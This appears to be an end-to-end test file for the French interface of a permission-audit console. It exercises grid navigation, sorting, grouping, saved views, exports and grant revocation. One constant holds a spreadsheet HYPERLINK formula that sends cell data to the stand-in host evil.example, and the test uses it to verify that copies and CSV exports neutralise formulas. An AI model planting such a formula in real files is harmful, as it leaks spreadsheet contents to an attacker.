import { describe, expect, it } from 'vitest'
import audit from '../../src/locales/fr/audit'
import insights from '../../src/locales/fr/auditInsights'
import report from '../../src/locales/fr/auditReport'
import changes from '../../src/locales/fr/changes'
import common from '../../src/locales/fr/common'
import { expectAccessible } from '../support/accessible'
import { parseCsv } from '../support/parseCsv'
import { parseMarkup } from '../support/parseMarkup'
import { filled } from '../support/texts'
import { auditPage, eventually, looksLike, numbersIn } from './auditPage'
import { serveConsoles } from './console'
import { hangAfter } from './hangingSandbox'

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Quarterly report")'
const MIGRATION = 'Mailbox Migration Tool'
const ORDER = [
  'risk',
  'permission',
  'principal',
  'kind',
  'status',
  'consent',
  'publisher',
  'clientId',
] as const
/** What the columns above are in a file, and the place of the application's name among them. */
const IN_FILE = [
  ...(['risk', 'riskSource', 'riskReason', 'permission', 'permissionId'] as const),
  ...(['principal', 'principalType', 'principalId', 'kind', 'status', 'declared'] as const),
  ...(['consent', 'user', 'userId', 'publisher', 'verifiedPublisher', 'clientId'] as const),
]
const NAME_IN_FILE = IN_FILE.indexOf('principal')

describe('the controls of the permission audit', () => {
  const open = serveConsoles()

  it('do in French what they say', { timeout: 150_000 }, async () => {
    const one = await open({ path: '/audit', language: 'fr' })
    const { page, main } = one
    const screen = auditPage(one)
    const { grid, line, cell, head, heads, counted, all, found } = screen
    const { filter, done, button, view, param, copied, save } = screen

    // Paused, it reads no further; what is cancelled is shown, and says what it lacks.
    await main.getByText(looksLike(audit.estimate.cost_other)).waitFor()
    const paused = await hangAfter(page, 1)
    await button(audit.start.button).press('Enter')
    await button(audit.reading.pause).press('Enter')
    await main.getByRole('heading', { name: audit.reading.paused }).waitFor()
    await paused.letGo()
    await expectAccessible(page)
    expect(await done.count()).toBe(0)
    const cancelled = await hangAfter(page, 1)
    await button(audit.reading.resume).press('Enter')
    await main.getByRole('heading', { name: audit.reading.title }).waitFor()
    await button(audit.reading.cancel).press('Enter')
    await done.getByText(looksLike(`^${audit.done.cancelled}`)).waitFor()
    await main.getByText(audit.coverage.incomplete).waitFor()
    await cancelled.letGo()
    await button(audit.done.anew).press('Enter')
    await button(audit.start.button).press('Enter')
    await done.getByText(audit.done.complete).waitFor()

    // Assistive technology is told of as many rows as there are, and of each which one it is.
    let total = { rows: 0, principals: 0 }
    const settled = async () => {
      const { rows } = total
      total = await all()
      return total.rows === rows && (await counted('row')) === rows + 1
    }
    // The last rows may be drawn a moment after the reading is complete.
    await expect.poll(settled, { timeout: 20_000, interval: 400 }).toBe(true)
    expect(total.rows).toBeGreaterThan(300)
    expect(await counted('col')).toBe(10)
    expect(await line(-1).getAttribute('aria-rowindex')).toBe('1')
    expect(await line(0).getAttribute('aria-rowindex')).toBe('2')
    await cell(0, 1).focus()
    await page.keyboard.press('Control+End')
    await line(total.rows - 1).waitFor()
    expect(await line(total.rows - 1).getAttribute('aria-rowindex')).toBe(String(total.rows + 1))
    await page.keyboard.press('Control+Home')

    // Sorted.
    const permission = head(audit.columns.permission)
    const sorted = () => permission.getAttribute('aria-sort')
    expect(await head(audit.columns.risk).getAttribute('aria-sort')).toBe('descending')
    await permission.getByRole('button').press('Enter')
    await eventually(sorted).toBe('ascending')
    expect(await head(audit.columns.risk).getAttribute('aria-sort')).toBe('none')
    await eventually(() => cell(0, 3).textContent()).toMatch(/^\d/u)
    await permission.getByRole('button').press('Enter')
    await eventually(sorted).toBe('descending')
    await eventually(() => cell(0, 3).textContent()).toMatch(/^[U-Z]/u)
    expect(param('sort')).toBe('-permission')

    // Columns: hidden, shown, in another order, wider.
    await button(audit.table.columns).press('Enter')
    const columns = page.getByRole('dialog', { name: audit.columnsDialog.title })
    await columns.getByRole('checkbox', { name: audit.columns.resource, exact: true }).uncheck()
    await eventually(() => counted('col')).toBe(9)
    await columns.getByRole('checkbox', { name: audit.columns.clientId, exact: true }).check()
    await eventually(() => counted('col')).toBe(10)
    const moved = { column: audit.columns.permission, place: 2, count: ORDER.length }
    await button(filled(audit.columnsDialog.up, moved), columns).press('Enter')
    await columns.getByText(filled(audit.columnsDialog.moved, moved)).waitFor()
    await button(common.state.close, columns).click()
    const inOrder = ORDER.map((column) => audit.columns[column])
    await eventually(heads).toEqual(inOrder)
    const width = async () => Math.round((await permission.boundingBox())?.width ?? 0)
    const narrow = await width()
    for (let step = 0; step < 3; step++) await permission.getByRole('button').press('Shift+ArrowRight')
    await eventually(width).toBe(narrow + 3 * 16)

    // Grouped: each head is a line, which opens and closes.
    const group = main.getByRole('combobox', { name: audit.table.group })
    for (const [kind, first] of [
      ['resource', /^Microsoft Graph/u],
      ['permission', /^UserAuthenticationMethod\.ReadWrite\.All/u],
      ['principal', /^Legacy Provisioning Engine/u],
    ] as const) {
      await group.selectOption(kind)
      const closed = line(0)
        .filter({ hasText: first })
        .and(page.locator('[aria-level="1"][aria-expanded=false]'))
      await closed.waitFor()
      expect(await grid.getAttribute('role')).toBe('treegrid')
      expect(param('group')).toBe(kind)
      const lines = await counted('row')
      if (kind === 'principal') expect(lines).toBe(total.principals + 1)
      const [rows = 0] = await numbersIn(line(0), audit.table.groupRows_one)
      await cell(0, 0).press('ArrowRight')
      await line(1).and(page.locator('[aria-level="2"]')).waitFor()
      expect(await line(0).getAttribute('aria-expanded')).toBe('true')
      expect([rows > 0, await counted('row')]).toEqual([true, lines + rows])
      await cell(0, 0).press('ArrowLeft')
      await closed.waitFor()
      expect(await counted('row')).toBe(lines)
    }

    // The tenant's own rating takes the place of the console's.
    await group.selectOption('none')
    await filter.fill('permission:Mail.Read kind:application principal:"Claims Intake"')
    await found({ rows: 1 })
    const risk = () => cell(0, 1).textContent()
    const rated = await risk()
    const own = filled(audit.table.overridden, { level: audit.risk.low })
    const ratings = page.getByRole('dialog', { name: insights.overrides.title })
    const overrides = [
      { permission: 'Mail.Read', kind: 'Application', level: 'low', reason: 'Boîtes vides.' },
    ]
    await button(audit.header.ratings).press('Enter')
    await ratings.locator('input[type=file]').setInputFiles({
      name: 'evaluations.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify({ schema: 'risk-overrides/1', overrides })),
    })
    await ratings.getByText(filled(insights.overrides.said.loaded_one, { count: 1 })).waitFor()
    await button(common.state.close, ratings).click()
    expect(rated).not.toBe(own)
    await eventually(risk).toBe(own)

    // A saved view is an address; after a reload it, the columns' widths and the rating are still there.
    const views = page.getByRole('dialog', { name: audit.saved.button })
    await eventually(() => param('q')).toContain('Claims Intake')
    const address = page.url()
    await button(audit.saved.button).press('Enter')
    await views.getByRole('textbox', { name: audit.saved.name }).fill('Mensuel')
    await button(audit.saved.save, views).click()
    await views.getByText(filled(audit.saved.done, { name: 'Mensuel' })).waitFor()
    await views.getByRole('link', { name: audit.builtIn.hidden }).press('Enter')
    await eventually(() => param('q')).toBe('status:hidden')
    await page.reload()
    await button(audit.offers.show).press('Enter')
    await button(audit.saved.button).press('Enter')
    await views.getByRole('link', { name: 'Mensuel' }).press('Enter')
    await eventually(() => page.url()).toBe(address)
    await found({ rows: 1 })
    expect(await heads()).toEqual(inOrder)
    await eventually(width).toBe(narrow + 3 * 16)
    await eventually(risk).toBe(own)
    await button(audit.header.ratings).press('Enter')
    await button(insights.overrides.remove, ratings).click()
    await button(common.state.close, ratings).click()
    await eventually(risk).toBe(rated)

    // Copied: a cell, a row and a selection; nothing of it would be a formula.
    await filter.fill('hyperlink')
    await found({ rows: 1 })
    await cell(0, 3).press('Control+c')
    await main.getByText(audit.table.copiedCell).waitFor()
    expect(await copied()).toBe(`'${FORMULA}`)
    const told = await line(0)
      .getByRole('gridcell')
      .evaluateAll((cells) => cells.map((of) => of.dataset.title ?? of.querySelector('span')?.textContent))
    await line(0)
      .getByRole('button', { name: /^Actions/u })
      .press('Enter')
    await page.getByRole('menuitem', { name: audit.table.copyRow }).press('Enter')
    await main.getByText(filled(audit.table.copiedRows_one, { rows: 1 })).waitFor()
    const row = told.slice(1, -1)
    expect(row[2]).toBe(FORMULA)
    expect(await copied()).toBe(row.with(2, `'${FORMULA}`).join('\t'))
    await filter.fill(`principal:"${MIGRATION}"`)
    await found({ rows: 3, principals: 1 })
    await cell(0, 2).focus()
    for (const key of ['Space', 'Shift+ArrowDown', 'Shift+ArrowDown']) await page.keyboard.press(key)
    const selection = main.getByRole('group', { name: audit.selection.label })
    await selection.getByText(filled(audit.selection.count_other, { rows: 3 })).waitFor()
    await button(audit.selection.copy, selection).press('Enter')
    await main.getByText(filled(audit.table.copiedRows_other, { rows: 3 })).waitFor()
    const pasted = (await copied()).split('\n').map((text) => text.split('\t'))
    expect(pasted[0]).toEqual(inOrder)
    expect(pasted.slice(1).map(([, what, who]) => [what, who])).toEqual(
      ['User.Read.All', 'MailboxSettings.ReadWrite', 'Mail.ReadWrite'].map((what) => [what, MIGRATION]),
    )
    await button(audit.selection.clear, selection).press('Enter')

    // Who may: as many as their rows are of.
    await view('who')
    await main.getByRole('combobox', { name: insights.who.question }).fill('lire tout le courrier')
    await page.keyboard.press('Enter')
    const [able = 0] = await numbersIn(
      main.getByText(looksLike(`^${insights.who.found_other}`)),
      insights.who.found_other,
    )
    expect(able).toBeGreaterThan(1)
    expect(param('ask')).toBe('read-all-mail')
    await main.getByRole('listitem').filter({ hasText: MIGRATION }).first().waitFor()
    await expectAccessible(page)
    await button(insights.who.allRows).press('Enter')
    await found({ principals: able })

    // The platform's footprint.
    await view('footprint')
    const serving = main
      .getByRole('region', { name: insights.footprint.registrations })
      .getByRole('listitem')
      .filter({ hasText: 'UiPath Travel Desk' })
    await serving.getByText(insights.footprint.ready, { exact: true }).waitFor()
    await expectAccessible(page)
    await serving
      .getByRole('button', { name: new RegExp(`^${insights.footprint.showRows}`, 'u') })
      .press('Enter')
    await found({ principals: 1 })
    await cell(0, 3).getByText('UiPath Travel Desk').waitFor()

    // A line of a chart's table, and a bar: each shows the rows that it counts.
    const chart = async (id: 'publishers' | 'risk') => {
      await filter.fill('')
      await main.getByText(looksLike(audit.table.all)).waitFor()
      await view('overview')
      // What stands above the charts.
      await main.getByRole('region', { name: insights.summary.title }).getByRole('button').first().waitFor()
      return main.getByRole('region', { name: insights.charts[id].title })
    }
    const publishers = await chart('publishers')
    await publishers.getByRole('button', { name: insights.charts.asTable }).press('Enter')
    const others = publishers.getByRole('row').filter({ hasText: audit.publisher.other })
    const published = Number(await others.getByRole('cell').first().textContent())
    expect(published).toBeGreaterThan(1)
    await others.getByRole('rowheader').getByRole('button').press('Enter')
    await found({ principals: published })
    expect(param('q')).toContain('publisher:other')
    const managed = (await chart('risk')).getByRole('button', {
      name: new RegExp(`^${audit.type['managed-identity']}`, 'u'),
    })
    const identities = Number(/\d+/u.exec((await managed.textContent()) ?? '')?.[0])
    await managed.click()
    await found({ principals: identities })
    expect(param('q')).toContain('type:managed-identity')

    // Files, in French; nothing in them is a formula or a script.
    const wanted = `principal:"${MIGRATION}"`
    await filter.fill(wanted)
    await found({ rows: 3 })
    const dialog = page.getByRole('dialog', { name: insights.export.title })
    await button(insights.export.action).press('Enter')
    const [html] = await save(dialog, 'html')
    const { elements, text } = parseMarkup(html?.text ?? '')
    expect(elements.find(({ name }) => name === 'html')?.attributes.lang).toBe('fr')
    expect(elements.filter(({ name }) => name === 'script')).toEqual([])
    expect(text).toContain(filled(report.title, { tenant: 'Contoso' }))
    expect(text).toContain(
      filled(report.selection.filtered_other, { count: 3, of: total.rows, filter: wanted }),
    )
    await dialog.getByRole('radio', { name: insights.export.ranges.everything }).check()
    const [csv, beside] = await save(dialog, 'csv')
    expect(csv?.text.startsWith('\ufeff')).toBe(true)
    const lines = parseCsv(csv?.text.slice(1) ?? '')
    expect(lines[0]).toEqual(IN_FILE.map((column) => report.column[column]))
    expect(lines).toHaveLength(total.rows + 1)
    expect(lines.flat().filter((value) => /^[=+@\t\r-]/u.test(value))).toEqual([])
    expect(lines.filter((of) => of[NAME_IN_FILE] === `'${FORMULA}`)).toHaveLength(1)
    expect(JSON.parse(beside?.text ?? '')).toMatchObject({
      schema: 'permission-audit-provenance/1',
      file: csv?.name,
      rowCount: total.rows,
      language: 'fr',
      selection: null,
      coverage: { complete: true },
    })
    const [snapshot] = await save(dialog, 'snapshot')
    await button(common.state.close, dialog).click()

    // The story of a grant tells who made it. Once it is revoked, that is what differs from the saved snapshot.
    await filter.fill(`${wanted} permission:User.Read.All`)
    await found({ rows: 1 })
    const status = () => cell(0, 5).textContent()
    await cell(0, 2).press('Enter')
    const story = page.getByRole('dialog', { name: 'User.Read.All' })
    await one.allowInWindow(() => button(insights.log.read, story).click())
    await story
      .getByRole('list', { name: insights.log.title })
      .getByText(looksLike(filled(insights.log.byUser, { name: '\u2068?(?:Ada Moreau|Priya Raman)' })))
      .waitFor()
    await button(insights.revoke.review, story).click()
    const review = page.getByRole('dialog', { name: filled(changes.review.title, { app: MIGRATION }) })
    await review.getByRole('list', { name: changes.review.steps }).waitFor()
    await one.allowInWindow(() => button(changes.apply.action, review).click())
    await review.getByText(changes.outcome.all).waitFor({ timeout: 60_000 })
    await button(changes.review.close, review).last().click()
    await button(common.state.close, story).press('Enter')
    await story.waitFor({ state: 'detached' })
    await button(audit.done.again).press('Enter')
    await eventually(status).toBe(audit.statusShort.unused)
    await view('compare')
    await main.locator('input[type=file]').setInputFiles(snapshot?.path ?? '')
    await button(`${insights.compare.change.revoked} (1)`).press('Enter')
    const differing = main.getByRole('table', { name: insights.compare.title }).getByRole('row')
    await eventually(() => differing.count()).toBe(2)
    await differing.last().filter({ hasText: MIGRATION }).getByText('User.Read.All').waitFor()
    await expectAccessible(page)

    // The file shows it as it was.
    await view('table')
    await eventually(status).toBe(audit.statusShort.unused)
    await button(audit.done.anew).press('Enter')
    await main.locator('input[type=file]').setInputFiles(snapshot?.path ?? '')
    await done.getByText(looksLike(`^${audit.done.opened}`)).waitFor()
    await eventually(status).toBe(audit.statusShort.declared)
  })
})
